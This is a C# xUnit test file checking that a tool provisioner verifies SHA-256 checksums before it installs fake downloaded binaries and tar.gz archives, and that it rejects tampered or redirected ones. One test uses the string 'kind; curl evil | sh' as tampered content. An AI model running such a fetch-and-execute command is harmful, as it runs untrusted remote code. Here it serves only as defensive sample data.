using FluentAssertions;
using MultiDcVault.Harness.Infrastructure.Processes;
using MultiDcVault.Harness.Provisioning;
using MultiDcVault.Harness.Tests.TestSupport;
using Xunit;

namespace MultiDcVault.Harness.Tests.Provisioning;

/// <summary>Downloads from a local server: verified installs land in the cache and are found; anything else installs nothing.</summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class ToolProvisionerTests : IDisposable
{
    private static readonly ToolPlatform Linux = new("linux", "amd64");

    private readonly string _root = Path.Combine(Path.GetTempPath(), "multidc-tools-" + Guid.NewGuid().ToString("N"));
    private readonly LocalFileServer _server = LocalFileServer.Start();
    private readonly HttpClient _http = new();
    private readonly ToolCache _cache;

    public ToolProvisionerTests() => _cache = new ToolCache(_root);

    public void Dispose()
    {
        _http.Dispose();
        _server.Dispose();
        if (Directory.Exists(_root))
        {
            Directory.Delete(_root, recursive: true);
        }
    }

    [Fact]
    public async Task A_verified_binary_is_installed_executable_and_found_by_the_resolver()
    {
        var content = ToolArtifacts.Executable("kind");
        var release = Binary("kindx", ToolArtifacts.Sha256(content));
        _server.Files["v9.9.9/kindx-linux-amd64"] = content;

        var installed = await Provisioner().InstallAsync(release, TestContext.Current.CancellationToken);

        installed.Downloaded.Should().BeTrue();
        installed.ChecksumOrigin.Should().Be(ChecksumOrigin.Pinned);
        installed.ExecutablePath.Should().Be(Path.Combine(_root, "kindx-v9.9.9", "kindx"));
        (await File.ReadAllBytesAsync(installed.ExecutablePath, TestContext.Current.CancellationToken)).Should().Equal(content);
        File.GetUnixFileMode(installed.ExecutablePath).Should().HaveFlag(UnixFileMode.UserExecute);
        new ExecutableResolver(_cache.BinDirectory, () => string.Empty).TryResolve("kindx").Should().Be(Path.Combine(_cache.BinDirectory, "kindx"));

        var run = await new ProcessRunner(resolver: new ExecutableResolver(_cache.BinDirectory))
            .RunAsync(new ProcessSpec("kindx", ["version"]), TestContext.Current.CancellationToken);
        run.StandardOutput.Should().Contain("kind fake version");
    }

    [Fact]
    public async Task A_second_install_reuses_the_verified_copy_without_downloading()
    {
        var content = ToolArtifacts.Executable("kind");
        var release = Binary("kindx", ToolArtifacts.Sha256(content));
        _server.Files["v9.9.9/kindx-linux-amd64"] = content;
        await Provisioner().InstallAsync(release, TestContext.Current.CancellationToken);
        _server.Requests.Clear();

        var again = await Provisioner().InstallAsync(release, TestContext.Current.CancellationToken);

        again.Downloaded.Should().BeFalse();
        _server.Requests.Should().BeEmpty();
    }

    [Fact]
    public async Task A_redirected_download_is_followed_and_verified_like_a_github_release_asset()
    {
        var content = ToolArtifacts.Executable("kind");
        _server.Redirects["v9.9.9/kindx-linux-amd64"] = "storage/asset-123";
        _server.Files["storage/asset-123"] = content;

        var installed = await Provisioner().InstallAsync(Binary("kindx", ToolArtifacts.Sha256(content)), TestContext.Current.CancellationToken);

        _server.Requests.Should().Equal("v9.9.9/kindx-linux-amd64", "storage/asset-123");
        (await File.ReadAllBytesAsync(installed.ExecutablePath, TestContext.Current.CancellationToken)).Should().Equal(content);
    }

    [Fact]
    public async Task A_tampered_redirect_target_installs_nothing_and_keeps_the_earlier_verified_copy()
    {
        var genuine = ToolArtifacts.Executable("kind");
        var release = Binary("kindx", ToolArtifacts.Sha256(genuine));
        _server.Files["v9.9.9/kindx-linux-amd64"] = genuine;
        var earlier = await Provisioner().InstallAsync(release, TestContext.Current.CancellationToken);
        File.Delete(Path.Combine(_cache.VersionDirectory(release), ".sha256")); // force a fresh download
        _server.Redirects["v9.9.9/kindx-linux-amd64"] = "storage/evil";
        _server.Files["storage/evil"] = ToolArtifacts.Executable("evil");

        var act = () => Provisioner().InstallAsync(release, TestContext.Current.CancellationToken);

        await act.Should().ThrowAsync<ToolChecksumMismatchException>();
        (await File.ReadAllBytesAsync(earlier.ExecutablePath, TestContext.Current.CancellationToken)).Should().Equal(genuine);
        Directory.GetFiles(_root, ".download-*").Should().BeEmpty("the rejected download is removed");
    }

    [Fact]
    public async Task A_tampered_binary_is_rejected_with_both_checksums_and_nothing_is_installed()
    {
        var genuine = ToolArtifacts.Executable("kind");
        var tampered = ToolArtifacts.Executable("kind; curl evil | sh");
        var release = Binary("kindx", ToolArtifacts.Sha256(genuine));
        _server.Files["v9.9.9/kindx-linux-amd64"] = tampered;

        var act = () => Provisioner().InstallAsync(release, TestContext.Current.CancellationToken);

        var error = (await act.Should().ThrowAsync<ToolChecksumMismatchException>()).Which;
        error.Message.Should().Contain(ToolArtifacts.Sha256(genuine)).And.Contain(ToolArtifacts.Sha256(tampered))
            .And.Contain("Nothing was installed").And.Contain("kindx-linux-amd64");
        NothingInstalled("kindx");
    }

    [Fact]
    public async Task A_verified_tar_gz_yields_the_named_entry_as_the_executable()
    {
        var helm = ToolArtifacts.Executable("helm");
        var archive = ToolArtifacts.TarGz(("linux-amd64/LICENSE", "Apache"u8.ToArray()), ("linux-amd64/helmx", helm));
        var release = Archive("helmx", ToolArtifacts.Sha256(archive));
        _server.Files["helmx-v9.9.9-linux-amd64.tar.gz"] = archive;

        var installed = await Provisioner().InstallAsync(release, TestContext.Current.CancellationToken);

        (await File.ReadAllBytesAsync(installed.ExecutablePath, TestContext.Current.CancellationToken)).Should().Equal(helm);
        File.GetUnixFileMode(installed.ExecutablePath).Should().HaveFlag(UnixFileMode.UserExecute);
        new ExecutableResolver(_cache.BinDirectory, () => string.Empty).TryResolve("helmx").Should().NotBeNull();
    }

    [Fact]
    public async Task A_tampered_tar_gz_is_rejected_before_it_is_unpacked()
    {
        var genuine = ToolArtifacts.TarGz(("linux-amd64/helmx", ToolArtifacts.Executable("helm")));
        var tampered = ToolArtifacts.TarGz(("linux-amd64/helmx", ToolArtifacts.Executable("not helm")));
        _server.Files["helmx-v9.9.9-linux-amd64.tar.gz"] = tampered;

        var act = () => Provisioner().InstallAsync(Archive("helmx", ToolArtifacts.Sha256(genuine)), TestContext.Current.CancellationToken);

        await act.Should().ThrowAsync<ToolChecksumMismatchException>();
        NothingInstalled("helmx");
    }

    [Fact]
    public async Task An_archive_without_the_expected_entry_installs_nothing()
    {
        var archive = ToolArtifacts.TarGz(("darwin-arm64/helmx", ToolArtifacts.Executable("helm")));
        _server.Files["helmx-v9.9.9-linux-amd64.tar.gz"] = archive;

        var act = () => Provisioner().InstallAsync(Archive("helmx", ToolArtifacts.Sha256(archive)), TestContext.Current.CancellationToken);

        (await act.Should().ThrowAsync<ToolProvisioningException>()).Which.Message.Should().Contain("linux-amd64/helmx");
        NothingInstalled("helmx");
    }

    [Fact]
    public async Task Without_a_pin_the_publishers_checksum_file_is_used()
    {
        var content = ToolArtifacts.Executable("kind");
        _server.Files["v9.9.9/kindx-linux-amd64"] = content;
        _server.Files["v9.9.9/kindx-linux-amd64.sha256sum"] = System.Text.Encoding.UTF8.GetBytes($"{ToolArtifacts.Sha256(content)}  kindx-linux-amd64\n");

        var installed = await Provisioner().InstallAsync(Binary("kindx", pinned: null), TestContext.Current.CancellationToken);

        installed.ChecksumOrigin.Should().Be(ChecksumOrigin.PublisherChecksumFile);
        _server.Requests.Should().Contain("v9.9.9/kindx-linux-amd64.sha256sum");
    }

    [Fact]
    public async Task Without_a_pin_a_download_that_disagrees_with_the_publishers_checksum_installs_nothing()
    {
        _server.Files["v9.9.9/kindx-linux-amd64"] = ToolArtifacts.Executable("tampered");
        _server.Files["v9.9.9/kindx-linux-amd64.sha256sum"] = System.Text.Encoding.UTF8.GetBytes($"{ToolArtifacts.Sha256(ToolArtifacts.Executable("kind"))}  kindx-linux-amd64\n");

        var act = () => Provisioner().InstallAsync(Binary("kindx", pinned: null), TestContext.Current.CancellationToken);

        (await act.Should().ThrowAsync<ToolChecksumMismatchException>()).Which.Message.Should().Contain(".sha256sum");
        NothingInstalled("kindx");
    }

    [Fact]
    public async Task Without_a_pin_or_a_checksum_file_nothing_is_downloaded()
    {
        _server.Files["v9.9.9/kindx-linux-amd64"] = ToolArtifacts.Executable("kind");

        var act = () => Provisioner().InstallAsync(Binary("kindx", pinned: null), TestContext.Current.CancellationToken);

        (await act.Should().ThrowAsync<ToolProvisioningException>()).Which.Message.Should().Contain("404");
        _server.Requests.Should().NotContain("v9.9.9/kindx-linux-amd64");
        NothingInstalled("kindx");
    }

    [Fact]
    public async Task A_missing_download_names_the_url_and_installs_nothing()
    {
        var act = () => Provisioner().InstallAsync(Binary("kindx", new string('a', 64)), TestContext.Current.CancellationToken);

        (await act.Should().ThrowAsync<ToolProvisioningException>()).Which.Message.Should().Contain("v9.9.9/kindx-linux-amd64").And.Contain("404");
        NothingInstalled("kindx");
    }

    [Fact]
    public async Task Windows_is_refused_with_an_install_hint_instead_of_a_wrong_download()
    {
        var provisioner = new ToolProvisioner(_http, _cache, new ToolPlatform("windows", "amd64"), _server.BaseUrl);

        var act = () => provisioner.InstallAsync(PinnedTools.Kind, TestContext.Current.CancellationToken);

        (await act.Should().ThrowAsync<ToolProvisioningException>()).Which.Message.Should().Contain("windows/amd64").And.Contain("kind.sigs.k8s.io");
        _server.Requests.Should().BeEmpty();
    }

    private ToolProvisioner Provisioner() => new(_http, _cache, Linux, _server.BaseUrl);

    private void NothingInstalled(string name)
    {
        File.Exists(Path.Combine(_root, $"{name}-v9.9.9", name)).Should().BeFalse("a rejected download must not be installed");
        File.Exists(Path.Combine(_cache.BinDirectory, name)).Should().BeFalse();
        new ExecutableResolver(_cache.BinDirectory, () => string.Empty).TryResolve(name).Should().BeNull();
        (Directory.Exists(_root) ? Directory.GetFiles(_root, ".download-*") : []).Should().BeEmpty("partial downloads are removed");
    }

    private static ToolRelease Binary(string name, string? pinned) => new()
    {
        Name = name,
        Version = "v9.9.9",
        BaseUrl = new Uri("https://example.invalid/"),
        PathTemplate = "{version}/" + name + "-{os}-{arch}",
        ChecksumFileSuffix = ".sha256sum",
        PinnedSha256 = pinned is null ? new Dictionary<string, string>() : new Dictionary<string, string> { ["linux/amd64"] = pinned },
    };

    private static ToolRelease Archive(string name, string pinned) => new()
    {
        Name = name,
        Version = "v9.9.9",
        BaseUrl = new Uri("https://example.invalid/"),
        PathTemplate = name + "-{version}-{os}-{arch}.tar.gz",
        Packaging = ToolPackaging.TarGz,
        ArchiveEntryTemplate = "{os}-{arch}/" + name,
        ChecksumFileSuffix = ".sha256sum",
        PinnedSha256 = new Dictionary<string, string> { ["linux/amd64"] = pinned },
    };
}
